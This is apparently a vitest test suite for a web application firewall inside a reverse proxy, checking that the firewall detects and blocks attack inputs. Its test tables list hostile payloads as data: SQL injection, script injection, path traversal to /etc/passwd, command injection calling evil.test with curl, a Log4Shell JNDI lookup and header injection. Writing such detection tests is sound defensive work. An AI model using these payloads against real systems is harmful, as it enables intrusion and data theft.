import { afterEach, describe, expect, it } from 'vitest';
import { createFoundLog } from '../../../../../docker/l7/policies/waf/found.ts';
import { judgeParts } from '../../../../../docker/l7/policies/waf/judge.ts';
import { readMultipart } from '../../../../../docker/l7/policies/waf/multipart.ts';
import { judgeNamed } from '../../../../../docker/l7/policies/waf/named.ts';
import { normalised } from '../../../../../docker/l7/policies/waf/normalised.ts';
import { bodyParts, queryParts } from '../../../../../docker/l7/policies/waf/parts.ts';
import type { L7Patch } from '../../../../../docker/protocol/balancer.ts';
import type { WafStats } from '../../../../../docker/protocol/l7/policy-stats.ts';
import { wafSchema } from '../../../../../docker/protocol/l7/waf.ts';
import { cleanUp, httpBackend, proxyTo } from '../rig.ts';
import { get } from './get.ts';

afterEach(cleanUp);

const families = (text: string, paranoia = 1) =>
  new Set(judgeParts([{ where: 'query q', kind: 'argument', text }], paranoia).map(({ family }) => family));

it.each([
  ['%3Cscript%3E', '<script>'],
  ['%253Cscript%253E', '<script>'],
  ['%u003cSCRIPT%u003e', '<script>'],
  ['&lt;script&#62;&#x3c;', '<script><'],
  ['UN/**/ION\t\n SELECT', 'un ion select'],
  ['\uff1cscript\uff1e', '<script>'],
  ['50% off', '50% off'],
  ['%', '%'],
])('%s is read as %s', (written, meant) => {
  expect(normalised(written)).toBe(meant);
});

describe('what is an attack', () => {
  it.each([
    ['sql', "1' OR '1'='1"],
    ['sql', "1' or 1=1 --"],
    ['sql', '1 UNION ALL SELECT name, secret FROM users'],
    ['sql', '1; DROP TABLE users'],
    ['sql', "1' AND SLEEP(5)#"],
    ['sql', '1%27%20UNION%2f**%2fSELECT%201'],
    ['script', '<script>alert(1)</script>'],
    ['script', '<img src=x onerror=alert(1)>'],
    ['script', 'javascript:alert(1)'],
    ['script', '%3Csvg/onload=alert(1)%3E'],
    ['traversal', '../../etc/passwd'],
    ['traversal', '..%2f..%2fsecret'],
    ['command', '8.8.8.8; cat /etc/hosts'],
    ['command', 'x | whoami'],
    ['command', '$(curl -s http://evil.test)'],
    ['command', ";c'a't /etc/hosts"],
    ['command', 'for /f %i in (a,b) do echo %i'],
    ['command', '() { :;}; echo hacked'],
    ['sql', "x' || (select extractvalue(1, 2))"],
    ['sql', '{"$ne": null}'],
    ['sql', 'un/**/ion sel/**/ect'],
    ['script', 'ja&Tab;vascript:alert(1)'],
    ['script', '" onmouseover="x'],
    ['script', 'document/**/.cookie'],
    ['script', '<x:script xmlns:x="http://www.w3.org/1999/xhtml">'],
    ['code', '<?php phpinfo(); ?>'],
    ['code', 'O:8:"stdClass":1:{s:1:"a";i:2;}'],
    ['code', '${jndi:ldap://x.test/a}'],
    ['code', 'java.lang.Runtime'],
    ['code', "require('child_process')"],
    ['remote-file', 'http://192.0.2.7/shell.txt'],
    ['remote-file', 'ftp://files.test/x'],
    ['protocol', 'x%0d%0aSet-Cookie: a=b'],
    ['protocol', 'x\r\nGET /admin HTTP/1.1\r\n'],
    ['protocol', '*)(uid=*))(|(uid=*'],
  ])('%s: %s', (family, text) => {
    expect(families(text)).toContain(family);
  });
});

describe('what is none', () => {
  it.each([
    "O'Brien and O'Neill",
    'union square, select seats',
    'rock and roll',
    'Tom & Jerry; a film',
    'price > 10 && price < 20',
    'How do I drop a table off at the store?',
    'C:\\Users\\anna',
    'onboarding=done',
    'see chapter 3.. and 4',
    'https://shop.test/?a=1&b=2#top',
    'SELECT your favourite colour',
    'my script for the play',
    'session expired, sleep well',
    'Student Union: select committee members from the list',
    'insert into slot A; update the label',
    'the cat sat on the mat; the dog ran',
    'ping me at 5; ls is short for lens',
    'eval the exam (written)',
    'java is an island; python is a snake',
    'cost: $5 (five)',
    'if (x) { return y; }',
    'benchmark results: 10 (ten)',
    'two lines\r\nof text: and more',
  ])('%s', (text) => {
    expect([...families(text)]).toEqual([]);
  });

  it('is taken for one by a higher level', () => {
    const text = 'select a seat from the plan';
    expect([...families(text)]).toEqual([]);
    expect([...families(text, 2)]).toEqual(['sql']);
  });
});

it('takes no longer for what is made to take long', () => {
  const pieces = [
    "'",
    '<a ',
    'select ',
    '%25',
    '(',
    '$(',
    '{',
    '{{',
    "' or ",
    'for %a',
    'if not ',
    '../',
    'a b ',
    '.',
    ')(',
  ];
  const more = [
    'select a from ',
    'on',
    '\r\n',
    '[',
    '+![',
    '/*',
    'java.',
    'case when ',
    '<!doctype',
    '$a[',
    'declare @a',
  ];
  const began = performance.now();
  for (const piece of [...pieces, ...more]) families(piece.repeat(Math.ceil(20_000 / piece.length)), 2);
  expect(performance.now() - began).toBeLessThan(15_000);
});

describe('bodies', () => {
  const texts = (type: string, body: string, whole = true) =>
    bodyParts(type, Buffer.from(body), whole)?.map(({ where, text }) => [where, text]);

  it('are read as what they say they are', () => {
    expect(texts('application/x-www-form-urlencoded', 'a=1&b=x+y')).toEqual([
      ['body a', '1'],
      ['body b', 'x y'],
    ]);
    expect(texts('application/json; charset=utf-8', '{"a":{"b":["x",1]}}')).toEqual([['body a b 0', 'x']]);
    expect(texts('image/png', '<script>')).toEqual([]);
    expect(texts('text/xml', '<a b="x">y<c d=\'z\'/></a>')).toEqual([
      ['body', 'x'],
      ['body', 'y'],
      ['body', 'z'],
    ]);
  });

  it('are suspect when they are not, but not when only cut short', () => {
    expect(texts('application/json', '{"a":')).toBeUndefined();
    expect(texts('application/json', '{"a":', false)).toEqual([['body', '{"a":']]);
  });
});

describe('bodies in parts', () => {
  const type = 'multipart/form-data; boundary=B';
  const section = (head: string, text: string, line = '\r\n') =>
    `--B${line}${head}${line}${line}${text}${line}`;
  const named = (rest: string) => `Content-Disposition: form-data; ${rest}`;
  const read = (...sections: readonly string[]) => readMultipart(type, `${sections.join('')}--B--`);
  const rulesIn = (...sections: readonly string[]) => read(...sections)?.findings.map(({ rule }) => rule);

  it('are read part by part, of a file only its name', () => {
    const found = read(
      section(named('name="a"'), 'x'),
      section(named('name="f"; filename="../x"'), '<script>'),
    );
    expect(found?.parts.map(({ where, kind, text }) => [where, kind, text])).toEqual([
      ['body a', 'argument', 'x'],
      ['file f', 'file', '../x'],
    ]);
    expect(found?.findings).toEqual([]);
  });

  it('are none without a boundary, or where it is nowhere', () => {
    expect(readMultipart('multipart/form-data', 'x')).toBeNull();
    expect(readMultipart(type, 'a=1')).toBeNull();
    expect(readMultipart(type, '')).toMatchObject({ parts: [] });
  });

  it('whose lines end as only some readers have it are looked at all the same', () => {
    expect(read(section(named('name="a"'), '<script>', '\n'))?.parts).toMatchObject([{ text: '<script>' }]);
  });

  it('are suspect by a name that breaks its line, another charset, and a coding of their own', () => {
    expect(rulesIn(section(named('name="fi;le"'), 'x'))).toEqual(['multipart-name']);
    expect(rulesIn(section(named('name="a"; filename="a=b.txt"'), 'x'))).toEqual(['multipart-name']);
    expect(rulesIn(section(named('name="a"; filename="Anna\'s cv (1).pdf"'), 'x'))).toEqual([]);
    expect(rulesIn(section(`${named('name="a"')}\r\nContent-Type: text/plain; charset=utf-7`, 'x'))).toEqual([
      'multipart-charset',
    ]);
    expect(
      rulesIn(section(`${named('name="a"')}\r\nContent-Type: text/plain; charset="UTF-8"`, 'x')),
    ).toEqual([]);
    expect(rulesIn(section(named('name="_charset_"'), 'utf-7'))).toEqual(['multipart-charset']);
    expect(rulesIn(section(`${named('name="a"')}\r\nContent-Transfer-Encoding: base64`, 'x'))).toEqual([
      'multipart-coded',
    ]);
  });
});

describe('what is an attack by its name', () => {
  const found = (target: string, referer?: string) => {
    const fields = referer === undefined ? [] : ([['Referer', referer]] as const);
    const head = {
      method: 'GET',
      scheme: 'http',
      authority: 'shop.lab:8080',
      target,
      version: '1.1',
      fields,
    } as const;
    return judgeNamed(queryParts(head), head).map(({ rule, where }) => `${rule} in ${where}`);
  };

  it('a session that somebody else hands out', () => {
    expect(found('/?PHPSESSID=abc')).toEqual(['session-given in query PHPSESSID']);
    expect(found('/?jsessionid=abc', 'https://evil.test/shop.lab')).toEqual([
      'session-given in query jsessionid',
    ]);
    expect(found('/?jsessionid=abc', 'https://shop.lab.evil.test/')).toHaveLength(1);
    expect(found('/?jsessionid=abc', 'http://SHOP.lab/cart')).toEqual([]);
    // What payment services give back, and what many interfaces call their own.
    expect(found('/?session_id=cs_1&sid=2')).toEqual([]);
  });

  it('a program that is fetched', () => {
    expect(found('/?_CONF[path]=https://a.test/x')).toEqual(['remote-by-name in query _CONF[path]']);
    expect(found('/?mosConfig_absolute_path=HTTP%3A%2F%2Fa.test')).toHaveLength(1);
    expect(found('/?path=/a/b&url=https://a.test&next=https://shop.lab/&absolute_path=/var/www')).toEqual([]);
  });
});

async function guarded(settings: NonNullable<L7Patch['waf']>) {
  const bodies: string[] = [];
  const target = await httpBackend((incoming, outgoing) => {
    let body = '';
    incoming.on('data', (chunk) => (body += String(chunk)));
    incoming.on('end', () => {
      bodies.push(body);
      outgoing.end('served');
    });
  });
  const made = await proxyTo([target.port], { waf: { mode: 'block', ...settings } });
  const stats = () => made.proxy.pipeline.stats().waf as unknown as WafStats;
  return { ...made, bodies, stats };
}

const form = { 'content-type': 'application/x-www-form-urlencoded' };
const injection = '/?id=1%27%20or%20%271%27=%271';

describe('the firewall', () => {
  it('blocks what scores too much, and says which rule found what where', async () => {
    const { port, stats, log, bodies } = await guarded({});
    expect((await get(port, injection)).status).toBe(403);
    expect(bodies).toEqual([]);
    expect(stats()).toMatchObject({ inspected: 1, blocked: 1, byRule: { 'sql-always-true': 1 } });
    const kind = { rule: 'sql-always-true', where: 'query id', path: '/', match: "' or '1'='1" };
    expect(stats().found).toMatchObject([{ ...kind, count: 1, blocked: 1, score: 5 }]);
    expect(log.at(-1)).toMatchObject({ by: 'waf', target: null });
    expect((await get(port, '/?id=1')).text).toBe('served');
  });

  it('gathers what it finds by rule, part and path, and keeps so many kinds of it', async () => {
    const { port, stats } = await guarded({});
    for (let time = 0; time < 3; time++) await get(port, injection);
    expect(stats().found).toMatchObject([{ count: 3 }]);
    const log = createFoundLog();
    const finding = judgeParts([{ where: 'query q', kind: 'argument', text: '<script>' }], 1)[0];
    if (finding === undefined) throw new Error('nothing found');
    for (let path = 0; path < 50; path++) log.add(finding, `/${path}`, path, false);
    expect(log.list()).toHaveLength(40);
    expect(log.list()[0]?.path).toBe('/10');
  });

  it('only says so where it is to detect', async () => {
    const { port, stats } = await guarded({ mode: 'detect' });
    expect((await get(port, injection)).text).toBe('served');
    expect(stats()).toMatchObject({ blocked: 0, detected: 1 });
  });

  it('reads the body, and the target still gets all of it', async () => {
    const { port, bodies, stats } = await guarded({});
    expect((await get(port, '/', form, 'POST', "id=1'+or+'1'='1")).status).toBe(403);
    expect((await get(port, '/', form, 'POST', 'id=1')).text).toBe('served');
    expect(bodies).toEqual(['id=1']);
    expect(stats().found[0]?.where).toBe('body id');
  });

  it('passes the same injection in a body where it reads the query alone', async () => {
    const { port } = await guarded({ inspect: 'query' });
    expect((await get(port, injection)).status).toBe(403);
    expect((await get(port, '/', form, 'POST', "id=1'+or+'1'='1")).text).toBe('served');
  });

  it('does not look beyond its bound, and says so', async () => {
    const { port, bodies, log } = await guarded({ bodyBytes: 100 });
    const body = `fill=${'x'.repeat(5000)}&id=1'+or+'1'='1`;
    expect((await get(port, '/', form, 'POST', body)).text).toBe('served');
    expect(bodies).toEqual([body]);
    expect(JSON.stringify(log.at(-1))).toContain('of the body only the first');
  });

  it('turns away listed agents, file types and what is no request of a browser', async () => {
    const { port } = await guarded({});
    expect((await get(port, '/', { 'user-agent': 'sqlmap/1.7' })).status).toBe(403);
    expect((await get(port, '/dump.SQL')).status).toBe(403);
    expect((await get(port, '/?a=%00')).status).toBe(403);
    expect((await get(port, '/style.css', { 'user-agent': 'Mozilla/5.0' })).status).toBe(200);
    expect((await get(port, '/', { proxy: 'http://evil.test' })).status).toBe(403);
    expect((await get(port, '/', { range: 'bytes=9-1' })).status).toBe(403);
    expect((await get(port, '/?a=%c0%af')).status).toBe(403);
    expect(
      (await get(port, '/', { ...form, 'content-type': `${form['content-type']}; charset=utf-7` })).status,
    ).toBe(403);
    expect((await get(port, '/?%0d%0aX')).status).toBe(403);
    expect((await get(port, '/?a=%uFF0F')).status).toBe(403);
    expect((await get(port, '/', { 'accept-charset': 'utf-7' })).status).toBe(403);
    expect((await get(port, '/', { accept: 'text/html;charset=CP1026' })).status).toBe(403);
    expect((await get(port, '/', { accept: '<>' })).status).toBe(403);
    expect((await get(port, '/', { accept: 'text/html, application/json;q=0.9, */*;q=0.1' })).status).toBe(
      200,
    );
    expect((await get(port, '/', {}, 'PROPFIND')).status).toBe(403);
    expect((await get(port, '/', {}, 'DELETE')).status).toBe(200);
    const coded = { 'content-type': 'text/plain', 'content-encoding': 'gzip' };
    expect((await get(port, '/', coded, 'POST', 'x')).status).toBe(403);
    const json = { 'content-type': 'application/json' };
    expect((await get(port, '/', json, 'POST', '{"a":')).status).toBe(403);
  });

  it('lets through what is excluded, and nothing beside it', async () => {
    const harmless = '/search?q=student%20union%20select%20board';
    const { port, stats, log } = await guarded({ exclude: ['sql-union in query q at /search'] });
    expect((await get(port, harmless)).text).toBe('served');
    expect(JSON.stringify(log.at(-1))).toContain('sql-union in query q: excluded');
    expect(stats()).toMatchObject({ inspected: 1, blocked: 0, byRule: {} });
    for (const other of [
      harmless.replace('/search', '/searching'),
      harmless.replace('/search', '/search/../admin'),
      harmless.replace('q=', 'id='),
      `${harmless}%27%20or%20%271%27=%271`,
    ])
      expect((await get(port, other)).status, other).toBe(403);
  });

  it('knows an exclusion by its words, and no other', () => {
    const reads = (text: string) => wafSchema.safeParse({ exclude: [text] }).success;
    for (const good of [
      'sql-union',
      'sql-union in query q',
      'file-type at /',
      'script-tag in body a b at /x',
    ])
      expect(reads(good), good).toBe(true);
    for (const bad of ['sql', 'sql-union q', 'sql-union in ', 'sql-union at search'])
      expect(reads(bad), bad).toBe(false);
  });

  it('is not there while it is off', async () => {
    const { port, proxy } = await guarded({ mode: 'off' });
    expect((await get(port, injection)).text).toBe('served');
    expect(proxy.pipeline.stats()).not.toHaveProperty('waf');
  });
});
